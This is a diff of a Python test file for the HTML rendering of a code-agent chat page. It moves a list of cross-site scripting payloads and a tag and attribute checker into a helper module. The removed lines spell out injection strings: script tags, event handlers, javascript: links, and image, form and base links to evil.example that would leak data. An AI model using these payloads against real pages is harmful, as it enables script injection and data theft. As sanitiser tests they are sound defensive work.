@@ -4,7 +4,6 @@ from __future__ import annotations
 
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import replace
-from html.parser import HTMLParser
 from typing import Any
 
 import pytest
@@ -16,59 +15,9 @@ from codeact.server.page.markup import MOST_HTML, display_html, markdown_html, s
 from codeact.server.page.shown import Asked, Call, Chunk, Failure, Notice, Output, RunShown, Shown, Turn
 from codeact.server.page.writing import draft
 
+from .harmless import ATTACKS, Inspector, check_harmless
+
 DIGEST = "ab" * 32
-ATTACKS = [
-    "<script>hack()</script>",
-    "<img src=x onerror=hack()>",
-    "<svg onload=hack()><script>hack()</script></svg>",
-    "<a href='javascript:hack()'>x</a>",
-    "<iframe srcdoc='<script>hack()</script>'></iframe>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=hack()>",
-    "<table><tr><td onclick=hack() style='background:url(//evil.example)'>1</td></tr></table>",
-    "<form action=//evil.example><input name=x><button data-act=approve data-on=stolen>Yes</button></form>",
-    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
-    "<details open ontoggle=hack()>x</details><marquee onstart=hack()>",
-    "[x](javascript:hack()) ![x](https://evil.example/?secret) <https://evil.example> [y](data:text/html,hack)",
-    "</code></pre><script>hack()</script>",
-    "```html\n<script>hack()</script>\n```",
-    '"><script>hack()</script>',
-    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
-]
-
-
-class Inspector(HTMLParser):
-    """All tags with their attributes, as a browser would find them."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.found: list[tuple[str, dict[str, str | None]]] = []
-        self.feed(html)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.found.append((tag, dict(attrs)))
-
-
-def check_harmless(html: str) -> None:
-    for tag, attributes in Inspector(html).found:
-        assert tag not in (
-            "script",
-            "style",
-            "iframe",
-            "object",
-            "embed",
-            "link",
-            "meta",
-            "base",
-            "math",
-            "template",
-        ), html
-        assert not any(name.startswith("on") or name in ("style", "srcdoc", "action") for name in attributes), html
-        for name in {"href", "src", "xlink:href"} & attributes.keys():
-            address = attributes[name] or ""
-            assert address.startswith(("https:", "http:", "mailto:", "#", "/media/", "data:image/")), html
-            assert name != "src" or address.startswith(("/media/", "data:image/")), (
-                "a picture of another host is asked for"
-            )
 
 
 def chat(*turns: Turn, **more: Any) -> Shown:
@@ -193,8 +142,8 @@ def test_siblings_are_counted_and_lead_to_each_other() -> None:
     runs = {name: RunShown(id=name, parent=None, text=name, status="answered") for name in ("a", "b", "c")}
     html = page(Shown(runs=runs, head="b"))
     assert "2 / 3" in html
-    assert 'data-act="show" data-on="a"' in html
-    assert 'data-act="show" data-on="c"' in html
+    assert 'data-act="tip" data-on="a"' in html
+    assert 'data-act="tip" data-on="c"' in html
 
 
 def test_without_buttons_there_is_nothing_to_press() -> None:
